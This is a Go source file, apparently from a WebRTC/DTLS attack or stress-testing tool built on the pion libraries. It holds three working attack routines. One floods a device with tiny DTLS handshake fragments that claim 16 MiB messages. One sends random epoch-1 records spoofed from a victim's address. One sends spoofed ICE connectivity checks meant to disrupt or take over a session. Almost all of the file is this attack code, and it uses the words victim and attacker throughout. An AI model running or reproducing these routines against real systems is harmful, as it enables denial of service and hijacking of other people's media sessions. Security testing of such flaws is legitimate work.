// SPDX-License-Identifier: Apache-2.0

package main

import (
	"encoding/binary"
	"fmt"
	"math/rand"
	"time"

	"github.com/pion/ice/v2"
	"github.com/pion/stun"
)

const (
	recordHeader    = 13
	fragmentHeader  = 12
	fragmentsASeat  = 100
	recordsASecond  = 2000
	fragmentsSecond = 400
	checksASecond   = 50
)

// handshakeFragments answers the device's ClientHello with DTLS handshake fragments of 26 bytes that claim messages of
// 16 MiB, a hundred in each session.
func handshakeFragments(a *attack) error {
	return a.again(func() error {
		c, err := join(a.url)
		if err != nil {
			return err
		}
		defer c.close()
		path, err := c.connect()
		if err != nil {
			return err
		}
		hello := make([]byte, 2048)
		_ = path.SetReadDeadline(time.Now().Add(patience))
		if _, err = path.Read(hello); err != nil {
			return err
		}
		types := []byte{2, 11, 12, 14} // ServerHello, Certificate, ServerKeyExchange, ServerHelloDone
		tick := time.NewTicker(time.Second / fragmentsSecond)
		defer tick.Stop()
		for i := 0; i < fragmentsASeat && !a.ended.Load(); i++ {
			<-tick.C
			record := make([]byte, recordHeader+fragmentHeader+1)
			copy(record, []byte{22, 0xfe, 0xfd, 0, 0})
			binary.BigEndian.PutUint32(record[7:], uint32(i))
			binary.BigEndian.PutUint16(record[11:], fragmentHeader+1)
			fragment := record[recordHeader:]
			fragment[0] = types[i%len(types)]
			copy(fragment[1:], []byte{0xff, 0xff, 0xff})
			binary.BigEndian.PutUint16(fragment[4:], uint16(i))
			fragment[11] = 1
			if _, err = path.Write(record); err != nil {
				return err
			}
			a.sent.Add(1)
		}
		return nil
	})
}

// forgedRecords sends records of epoch 1 from the victim's address: empty ones, and random ones of each content type.
// Without the right to forge it sends them from its own peer.
func forgedRecords(a *attack) error {
	var send func([]byte) error
	f, err := newForger(a.from, a.to)
	if err == nil {
		defer f.close()
		a.note.Store("from the primary's forged address")
		send = f.send
	} else {
		own, failed := join(a.url)
		if failed != nil {
			return failed
		}
		defer own.close()
		path, failed := own.connect()
		if failed != nil {
			return failed
		}
		a.note.Store(fmt.Sprintf("from the attacker's own peer (%v)", err))
		send = func(record []byte) error {
			_, err := path.Write(record)
			return err
		}
	}
	random := rand.New(rand.NewSource(1))
	record := make([]byte, recordHeader+200)
	return a.paced(recordsASecond, func() error {
		length := 0
		if random.Intn(2) == 0 {
			length = random.Intn(200)
		}
		random.Read(record[:recordHeader+length])
		copy(record, []byte{byte(20 + random.Intn(5)), 0xfe, 0xfd, 0, 1})
		binary.BigEndian.PutUint16(record[11:], uint16(length))
		a.sent.Add(1)
		return send(record[:recordHeader+length])
	})
}

// forgedChecks sends valid connectivity checks of the attacker's own session from the victim's address.
func forgedChecks(a *attack) error {
	f, err := newForger(a.from, a.to)
	if err != nil {
		return err
	}
	defer f.close()
	return a.again(func() error {
		c, err := join(a.url)
		if err != nil {
			return err
		}
		defer c.close()
		if _, err = c.connect(); err != nil {
			return err
		}
		return a.paced(checksASecond, func() error {
			check, err := stun.Build(stun.BindingRequest, stun.TransactionID, stun.NewUsername(c.remoteUfrag+":"+c.ufrag),
				ice.UseCandidate(), ice.AttrControlling(1), ice.PriorityAttr(0x7effffff),
				stun.NewShortTermIntegrity(c.remotePwd), stun.Fingerprint)
			if err != nil {
				return err
			}
			a.sent.Add(1)
			return f.send(check.Raw)
		})
	})
}
